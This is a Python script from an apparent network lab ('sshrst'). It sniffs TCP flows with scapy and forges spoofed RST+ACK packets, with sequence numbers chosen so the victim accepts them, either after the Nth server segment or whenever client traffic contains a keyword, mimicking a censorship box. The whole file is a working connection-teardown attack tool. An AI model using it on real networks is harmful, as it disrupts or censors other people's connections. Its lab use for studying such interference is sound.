#!/usr/bin/python3
"""On-path RST injector for the sshrst lab (runs inside a router namespace).

Usage: inject.py IFACE SERVER_IP SERVER_PORT CLIENT_IP CLIENT_PORT N

Watches IFACE for server->client TCP segments of the given flow. After the Nth
segment carrying payload it forges one RST+ACK from the server to the client
with seq = that segment's seq + payload length (the client's RCV.NXT, so the
client accepts it), a random IP ID, no DF and TTL 64, and sends it through the
router's own routing table. The real server is not touched and keeps sending.
Prints "ready" once sniffing, "injected ..." after sending, then exits.

Usage: inject.py --client-content TEXT IFACE SERVER_IP SERVER_PORT [COUNT]

Content mode (a keyword-triggered injector, like the boxes CenTrace locates):
watches IFACE for client->server segments to SERVER_PORT whose payload holds
TEXT, and for each forges one RST+ACK from the server to the client (seq = the
segment's ACK, ack = its seq + length; random IP ID, no DF, TTL 64), up to
COUNT times (default 100) or until killed. The segment itself is not stopped.
It sees every segment as it arrives on IFACE, whatever TTL it has left.
"""
import random
import socket
import sys

from scapy.all import AsyncSniffer, IP, IPv6, TCP, raw  # noqa: E402


def forge(v6, sip, sport, cip, cport, seq, ack):
    if v6:
        pkt = IPv6(src=sip, dst=cip, hlim=64) / TCP(sport=sport, dport=cport, flags="RA", seq=seq, ack=ack, window=0)
        s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
    else:
        pkt = IP(src=sip, dst=cip, ttl=64, id=random.randint(1, 65535), flags=0) / TCP(
            sport=sport, dport=cport, flags="RA", seq=seq, ack=ack, window=0)
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.sendto(raw(pkt), (cip, 0))
    s.close()


def content_mode(argv):
    text, iface, sip, sport = argv[0].encode(), argv[1], argv[2], int(argv[3])
    count = int(argv[4]) if len(argv) > 4 else 100
    v6 = ":" in sip
    sent = [0]

    def handle(p):
        ipl = p.getlayer(IPv6) if v6 else p.getlayer(IP)
        if ipl is None or TCP not in p or sent[0] >= count:
            return
        t = p[TCP]
        if ipl.dst != sip or t.dport != sport or text not in bytes(t.payload):
            return
        plen = len(t.payload)
        forge(v6, sip, sport, ipl.src, t.sport, t.ack, (t.seq + plen) & 0xFFFFFFFF)
        sent[0] += 1
        print(f"injected RST+ACK {sip}:{sport} > {ipl.src}:{t.sport} seq={t.ack} (client segment ttl={ipl.hlim if v6 else ipl.ttl})", flush=True)

    sn = AsyncSniffer(iface=iface, prn=handle, store=False, filter=f"tcp and dst port {sport}",
                      started_callback=lambda: print("ready", flush=True))
    sn.start()
    import time
    try:
        while sent[0] < count:
            time.sleep(0.05)
    except KeyboardInterrupt:
        pass
    sn.stop()
    return 0


def main():
    if sys.argv[1:2] == ["--client-content"]:
        return content_mode(sys.argv[2:])
    iface, sip, sport, cip, cport, n = sys.argv[1:7]
    sport, cport, n = int(sport), int(cport), int(n)
    v6 = ":" in sip
    seen = [0]
    done = []

    def handle(p):
        if done:
            return
        ipl = p.getlayer(IPv6) if v6 else p.getlayer(IP)
        if ipl is None or TCP not in p:
            return
        t = p[TCP]
        if ipl.src != sip or ipl.dst != cip or t.sport != sport or t.dport != cport:
            return
        plen = len(t.payload)
        if plen == 0:
            return
        seen[0] += 1
        if seen[0] < n:
            return
        seq = (t.seq + plen) & 0xFFFFFFFF
        if v6:
            pkt = IPv6(src=sip, dst=cip, hlim=64) / TCP(sport=sport, dport=cport, flags="RA", seq=seq, ack=t.ack, window=0)
            s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
            s.sendto(raw(pkt), (cip, 0))
        else:
            pkt = IP(src=sip, dst=cip, ttl=64, id=random.randint(1, 65535), flags=0) / TCP(
                sport=sport, dport=cport, flags="RA", seq=seq, ack=t.ack, window=0)
            s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
            s.sendto(raw(pkt), (cip, 0))
        s.close()
        done.append(seq)
        print(f"injected RST+ACK {sip}:{sport} > {cip}:{cport} seq={seq} ack={t.ack} after segment #{seen[0]}", flush=True)

    sn = AsyncSniffer(iface=iface, prn=handle, store=False,
                      filter=f"tcp and src port {sport} and dst port {cport}",
                      started_callback=lambda: print("ready", flush=True))
    sn.start()
    import time
    deadline = time.monotonic() + 30
    while not done and time.monotonic() < deadline:
        time.sleep(0.05)
    sn.stop()
    return 0 if done else 1


if __name__ == "__main__":
    sys.exit(main())
